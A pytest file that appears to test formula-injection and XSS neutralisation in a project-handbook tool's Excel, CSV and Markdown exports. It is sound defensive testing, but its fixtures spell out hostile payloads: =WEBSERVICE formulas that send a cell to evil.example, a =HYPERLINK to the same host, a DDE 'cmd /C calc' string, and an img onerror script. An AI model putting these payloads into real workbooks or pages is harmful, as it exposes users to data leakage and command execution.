"""Text from the standard is untrusted too: a column label, a format name, its purpose or a column
description that looks like a formula arrives in every workbook as text and in the CSV with the
OWASP apostrophe, never as a live formula (issue 11, item 8)."""
from __future__ import annotations

import io
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import FIXTURE_DATA, REPO
from pmo_handbook.exports.csv_ import neutralise
from pmo_handbook.exports.downloads import project_registers, template_files
from pmo_handbook.loading.load import load_repository
from pmo_handbook.settings import Settings

HOSTILE = {  # formats.yml text -> what it becomes
    "name: 課題管理表\n": 'name: "=HYPERLINK(\\"http://evil.example/\\",\\"課題\\")"\n',
    "name_en: Issue log\n": 'name_en: "@SUM(1+1)"\n',
    "label: 課題名,": 'label: "=WEBSERVICE(\\"http://evil.example/?\\"&A2)",',
    "label_en: Title,": 'label_en: "+cmd|\' /C calc\'!A0",',
    "label: 分類,": 'label: "-2+3",',
}
PAYLOADS = ['=HYPERLINK("http://evil.example/","課題")', "@SUM(1+1)", '=WEBSERVICE("http://evil.example/?"&A2)',
            "+cmd|' /C calc'!A0", "-2+3"]


@pytest.fixture(scope="module")
def hostile_repo(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile-standard")
    shutil.copytree(REPO / "pmo_templates", root / "pmo_templates")
    shutil.copytree(FIXTURE_DATA, root / "data")
    formats = root / "pmo_templates" / "formats.yml"
    text = formats.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        assert old in text
        text = text.replace(old, new, 1)
    purpose = re.search(r"purpose: >-\n((?:      .*\n)+)", text)
    text = text.replace(purpose[0], 'purpose: "=WEBSERVICE(\\"http://evil.example/\\")"\n', 1)
    formats.write_text(text, encoding="utf-8")
    return root


def _downloads(root: Path) -> dict[str, bytes]:
    repo = load_repository(root / "data", root / "pmo_templates")
    out = {uri: content for uri, content, _, _ in template_files(repo, Settings())}
    for p in repo.projects.values():
        out.update({uri: content for uri, content, _, _ in project_registers(p, repo, Settings())})
    return out


def test_standard_text_is_text_in_every_workbook(hostile_repo):
    downloads = _downloads(hostile_repo)
    books = [uri for uri in downloads if uri.endswith(".xlsx")]
    assert "downloads/templates/issue_log.xlsx" in books and "downloads/projects/alpha/issues.xlsx" in books
    seen = set()
    for uri in books:
        wb = openpyxl.load_workbook(io.BytesIO(downloads[uri]))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if isinstance(c.value, str) and any(p in c.value for p in PAYLOADS):
                        assert c.data_type == "s", (uri, ws.title, c.coordinate, c.value)
                        seen.update(p for p in PAYLOADS if p in c.value)
                    if c.data_type == "f":  # our own score formula is the only formula
                        assert re.fullmatch(r'=IF\(AND\(ISNUMBER\([A-Z]+\d+\),ISNUMBER\([A-Z]+\d+\)\),'
                                            r'[A-Z]+\d+\*[A-Z]+\d+,""\)', c.value), (uri, c.coordinate)
        with zipfile.ZipFile(io.BytesIO(downloads[uri])) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not re.search(r"<f>[^<]*(HYPERLINK|WEBSERVICE|SUM|cmd)", z.read(name).decode()), name
    assert seen == set(PAYLOADS)
    issues = openpyxl.load_workbook(io.BytesIO(downloads["downloads/templates/issue_log.xlsx"]))
    guide = issues.worksheets[1]
    assert guide["A1"].value == '=HYPERLINK("http://evil.example/","課題")（@SUM(1+1)）'
    assert guide["A2"].value == '=WEBSERVICE("http://evil.example/")'
    assert issues.worksheets[0]["B1"].value == '=WEBSERVICE("http://evil.example/?"&A2)'


def test_standard_text_is_neutralised_in_the_csv_header(hostile_repo):
    content = _downloads(hostile_repo)["downloads/templates/issue_log.csv"].decode("utf-8-sig")
    header = content.split("\r\n")[0]
    assert header.startswith('No,"\'=WEBSERVICE(""http://evil.example/?""&A2)",課題内容,\'-2+3,')


def test_the_owasp_rule_in_one_function():
    assert [neutralise(t) for t in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "課題", "a=b", "")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "課題", "a=b", ""]


def test_standard_text_is_inert_in_the_markdown(hostile_repo, tmp_path):
    formats = hostile_repo / "pmo_templates" / "formats.yml"
    text = formats.read_text(encoding="utf-8").replace(
        'label: "-2+3",', 'label: "<img src=x onerror=alert(1)>|分類",', 1)
    (tmp_path / "pmo_templates").mkdir()
    shutil.copytree(hostile_repo / "pmo_templates", tmp_path / "pmo_templates", dirs_exist_ok=True)
    (tmp_path / "pmo_templates" / "formats.yml").write_text(text, encoding="utf-8")
    shutil.copytree(hostile_repo / "data", tmp_path / "data")
    md = _downloads(tmp_path)["downloads/templates/issue_log.md"].decode("utf-8")
    assert "<img" not in md
    assert "| &lt;img src=x onerror=alert(1)&gt;\\|分類 |" in md
